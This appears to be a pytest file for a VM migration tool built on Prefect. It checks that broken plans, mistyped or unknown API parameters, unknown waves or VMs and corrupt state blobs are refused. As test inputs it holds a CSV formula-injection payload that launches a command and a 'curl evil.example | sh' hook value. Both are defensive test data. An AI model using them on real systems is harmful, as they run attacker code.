"""Broken input through the doors a user has: a broken plan uploaded schedules nothing (where a good one
schedules its waves); the cutover and test-migration APIs called with parameters of the wrong type are refused
by the server, and so is a call to any step's deployment with a parameter its flow does not take; a run whose
parameters are well typed but wrong fails saying which one, before any VM is touched; a step called with a
wave or VM that does not exist is refused by name."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from prefect_api import api_call, basic, flow_runs
from wave_runs import CACHE, EXAMPLE_PLAN, PROJECT_ROOT, lab_wave, source_power, target_resources

from deployments.upload import wave_parameter
from flows.selection import UnknownVm, select_vms
from vmshift.lab import launcher
from vmshift.lab.prefect_server import client_environment
from vmshift.plan.validation import validate_plan
from vmshift.state.store import StateStore

BIN = Path(sys.executable).parent
WAVE_REPLICATE, CUTOVER, TEST_MIGRATE = "migrate-wave/wave-replicate", "cutover/cutover", "test-migrate/test-migrate"
VM = "rel-vcsim-01"  # named in the waves of the bad calls (and never cut over): they must leave it as it was


def upload(plan: Path, env: dict[str, str]) -> subprocess.CompletedProcess:
    return subprocess.run([str(BIN / "vmshift"), "plan", "upload", str(plan), "--offline", "--start-at", "now",
                           "--json"], env={**os.environ, **env}, capture_output=True, text=True, timeout=120)


def test_a_good_plan_uploaded_schedules_one_run_per_wave(step_env: dict, rel_prefect: tuple[Path, dict],
                                                        deployments: dict[str, str]) -> None:
    before = flow_runs(rel_prefect[1], deployments[WAVE_REPLICATE])

    result = upload(EXAMPLE_PLAN, step_env)

    assert result.returncode == 0, result.stdout + result.stderr
    waves = validate_plan(EXAMPLE_PLAN).raise_for_errors().waves
    created = {run["name"] for run in flow_runs(rel_prefect[1], deployments[WAVE_REPLICATE])} - \
        {run["name"] for run in before}
    assert created == {f"migrate-{wave.name}" for wave in waves}


@pytest.mark.parametrize("breakage", ["formula", "duplicate", "binary", "empty"])
def test_a_broken_plan_uploaded_schedules_nothing_and_prints_no_traceback(
    breakage: str, step_env: dict, rel_prefect: tuple[Path, dict], deployments: dict[str, str], tmp_path: Path
) -> None:
    lines = EXAMPLE_PLAN.read_text().splitlines()
    broken = tmp_path / "plan.csv"
    if breakage == "formula":
        broken.write_text("\n".join([lines[0], "=cmd|' /C calc'!A0" + lines[1][lines[1].index(","):], *lines[2:]]))
    elif breakage == "duplicate":
        broken.write_text("\n".join([*lines, lines[1]]) + "\n")
    elif breakage == "binary":
        broken.write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + os.urandom(64))
    else:
        broken.write_text("")
    before = len(flow_runs(rel_prefect[1]))

    result = upload(broken, step_env)

    assert result.returncode == 1, result.stdout + result.stderr
    assert "Traceback" not in result.stdout + result.stderr
    report = json.loads(result.stdout.strip().splitlines()[-1])
    assert report["ok"] is False and report["waves"] == [] and report["errors"]
    assert all({"row", "column", "message"} <= error.keys() for error in report["errors"])
    assert len(flow_runs(rel_prefect[1])) == before


@pytest.mark.parametrize(("deployment", "parameters", "field"), [
    (CUTOVER, {"wave": 123}, "wave"),
    (CUTOVER, {"wave": "wave-1", "vms": "x"}, "vms"),
    (CUTOVER, {"wave": "wave-1", "max_delta_age_minutes": "a while"}, "max_delta_age_minutes"),
    (CUTOVER, {"wave": "wave-1", "blackout_windows": "sat,sun 00:00-23:59"}, "blackout_windows"),
    (TEST_MIGRATE, {"wave": ["wave-1"]}, "wave"),
    (TEST_MIGRATE, {"wave": "wave-1", "vms": [1]}, "vms[0]"),
])
def test_an_api_call_with_a_parameter_of_the_wrong_type_is_refused_and_creates_no_run(
    deployment: str, parameters: dict, field: str, rel_prefect: tuple[Path, dict], deployments: dict[str, str]
) -> None:
    prefect, deployment_id = rel_prefect[1], deployments[deployment]
    before = {run["id"] for run in flow_runs(prefect, deployment_id)}

    answer = api_call("POST", f"{prefect['api_url']}/deployments/{deployment_id}/create_flow_run",
                      basic(prefect["auth_string"]), {"parameters": parameters})

    assert answer.status_code == 409, answer.text
    detail = answer.json()["detail"]
    assert detail.startswith(f"Error creating flow run: Validation failed for field {field!r}."), detail
    assert {run["id"] for run in flow_runs(prefect, deployment_id)} == before  # (their states move on: Late)


@pytest.fixture(scope="module")
def deployed_by_vmshift(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict]:
    """A Prefect server of its own on which a team's deploy ran as the README says (the work pool, then
    `vmshift deploy` in the project folder): the deployments of prefect.yaml, not the conftest's stand-ins."""
    folder = tmp_path_factory.mktemp("deploy-prefect")
    with launcher.running_prefect_server(folder) as entry:
        env = {**os.environ, **client_environment(entry), "PREFECT_HOME": str(folder / "client")}
        for argv in ([str(BIN / "prefect"), "work-pool", "create", "vmshift", "--type", "process"],
                     [str(BIN / "vmshift"), "deploy"]):
            done = subprocess.run(argv, cwd=PROJECT_ROOT, env=env, capture_output=True, text=True, timeout=300)
            assert done.returncode == 0, done.stdout + done.stderr
        yield entry


# Each step's deployment, called well but for one key its flow does not take (a typo, or a wish).
UNKNOWN_KEYS = [
    (WAVE_REPLICATE, {"dry_run": True}),
    ("delta-sync/delta-sync", {"min_interval": 5}),
    (TEST_MIGRATE, {"wave": "wave-1", "vm": ["web-rhel-02"]}),
    ("cleanup-test/cleanup-test", {"wave": "wave-1", "force": True}),
    (CUTOVER, {"wave": "wave-1", "skip_test_migrations": True}),
    (CUTOVER, {"wave": "wave-1", "hooks": {"pre-cutover": "curl evil.example | sh"}}),  # hooks are the plan's names
    ("complete-migration/complete-migration", {"wave": "wave-1", "delete_cache_blob": True}),
    ("rollback/rollback", {"wave": "wave-1", "delete_disk": True}),
]


@pytest.mark.parametrize(("deployment", "parameters"), UNKNOWN_KEYS)
def test_an_api_call_with_a_parameter_the_flow_does_not_take_is_refused_by_name_and_creates_no_run(
    deployment: str, parameters: dict, deployed_by_vmshift: dict
) -> None:
    prefect, headers = deployed_by_vmshift, basic(deployed_by_vmshift["auth_string"])
    if deployment == WAVE_REPLICATE:
        parameters = {"wave": wave_parameter(validate_plan(EXAMPLE_PLAN).raise_for_errors().waves[0]), **parameters}
    deployment_id = api_call("GET", f"{prefect['api_url']}/deployments/name/{deployment}", headers).json()["id"]
    before = {run["id"] for run in flow_runs(prefect, deployment_id)}
    unknown = list(parameters)[-1]

    answer = api_call("POST", f"{prefect['api_url']}/deployments/{deployment_id}/create_flow_run", headers,
                      {"parameters": parameters})

    assert answer.status_code == 409, answer.text
    assert answer.json()["detail"] == ("Error creating flow run: Validation failed. Failure reason: Additional "
                                       f"properties are not allowed ({unknown!r} was unexpected)"), answer.text
    assert {run["id"] for run in flow_runs(prefect, deployment_id)} == before


def test_a_good_api_call_on_a_deployment_vmshift_deploy_made_creates_its_run(deployed_by_vmshift: dict) -> None:
    prefect, headers = deployed_by_vmshift, basic(deployed_by_vmshift["auth_string"])
    deployment_id = api_call("GET", f"{prefect['api_url']}/deployments/name/{CUTOVER}", headers).json()["id"]

    answer = api_call("POST", f"{prefect['api_url']}/deployments/{deployment_id}/create_flow_run", headers,
                      {"parameters": {"wave": "wave-1", "vms": ["win-sql-01"], "skip_test_migration": True}})

    assert answer.status_code == 201, answer.text
    assert answer.json()["id"] in {run["id"] for run in flow_runs(prefect, deployment_id)}


def test_a_run_whose_parameters_are_wrong_fails_saying_which_before_touching_a_vm(
    step_env: dict, rel_prefect: tuple[Path, dict], deployments: dict[str, str], tmp_path: Path
) -> None:
    prefect, headers = rel_prefect[1], basic(rel_prefect[1]["auth_string"])
    wave = wave_parameter(lab_wave("rel-bad-calls", [VM]))
    calls = {CUTOVER: ({"wave": wave, "blackout_windows": ["weekends"]},
                       "ScheduleInvalid: blackout window 'weekends': expected DAYS HH:MM-HH:MM, e.g. "
                       "'mon-fri 22:00-06:00'"),
             TEST_MIGRATE: ({"wave": wave, "vms": ["no-such-vm"]},
                            f"UnknownVm: not in wave rel-bad-calls: no-such-vm; its VMs: {VM}")}
    source, targets = source_power(VM), target_resources(VM)
    runs = {name: api_call("POST", f"{prefect['api_url']}/deployments/{deployments[name]}/create_flow_run", headers,
                           {"parameters": parameters}).json()["id"] for name, (parameters, _) in calls.items()}

    # Executed as a process worker executes a run, both at once.
    executions = [subprocess.Popen([str(BIN / "prefect"), "flow-run", "execute", run], env={**os.environ, **step_env},
                                   cwd=PROJECT_ROOT, stdout=(tmp_path / f"{run}.log").open("wb"),
                                   stderr=subprocess.STDOUT) for run in runs.values()]
    for execution in executions:
        execution.wait(timeout=300)

    for name, run in runs.items():
        state = api_call("GET", f"{prefect['api_url']}/flow_runs/{run}", headers).json()["state"]
        assert state["type"] == "FAILED", (name, state, (tmp_path / f"{run}.log").read_text()[-3000:])
        assert state["message"] == f"Flow run encountered an exception: {calls[name][1]}", (name, state["message"])
        tasks = api_call("POST", f"{prefect['api_url']}/task_runs/filter", headers,
                         {"flow_runs": {"id": {"any_": [run]}}}).json()
        assert tasks == [], f"{name} ran {[task['name'] for task in tasks]} before refusing its parameters"
    assert source_power(VM) == source
    assert target_resources(VM) == targets


def test_a_step_naming_a_vm_outside_the_wave_is_refused_by_name() -> None:
    wave = validate_plan(EXAMPLE_PLAN).raise_for_errors().waves[0]
    with pytest.raises(UnknownVm, match=r"not in wave wave-1: no-such-vm; its VMs: web-rhel-02, win-sql-01"):
        select_vms(wave, ["win-sql-01", "no-such-vm"])


def test_a_step_naming_a_wave_never_uploaded_is_refused_by_name(step_env: dict) -> None:
    code = ("import asyncio; from flows.selection import resolve_wave; "
            "asyncio.run(resolve_wave('wave-that-was-never-uploaded'))")
    result = subprocess.run([sys.executable, "-c", code], env={**os.environ, **step_env}, capture_output=True,
                            text=True, timeout=120, cwd=PROJECT_ROOT)
    assert result.returncode != 0
    assert "no uploaded wave named 'wave-that-was-never-uploaded'" in result.stderr


@pytest.mark.parametrize("document", [b"{\"vm\": \"rel-corrupt-01\", \"phase\":", b"[1, 2, 3]",
                                      b'{"schema_version": 1, "vm": "rel-corrupt-01", "cycles": "many"}'])
def test_vmshift_status_of_a_vm_whose_state_document_is_broken_names_it_and_what_to_do(
    document: bytes, lab: dict
) -> None:
    store = StateStore.for_account(CACHE)
    store.ensure_container()
    blob = store.container.get_blob_client(store.blob_name("rel-corrupt-01"))
    blob.upload_blob(document, overwrite=True)
    try:
        result = subprocess.run([str(BIN / "vmshift"), "status", "--vm", "rel-corrupt-01", "--cache-account", CACHE],
                                capture_output=True, text=True, timeout=120)
    finally:
        blob.delete_blob()  # or every later `vmshift status` of this lab stops at it

    assert result.returncode == 1, result.stdout + result.stderr
    assert "Traceback" not in result.stdout + result.stderr
    assert result.stderr.startswith(f"error: state blob {blob.url} "), result.stderr
    assert "restore it from its blob version or delete it to replicate the VM anew" in result.stderr, result.stderr
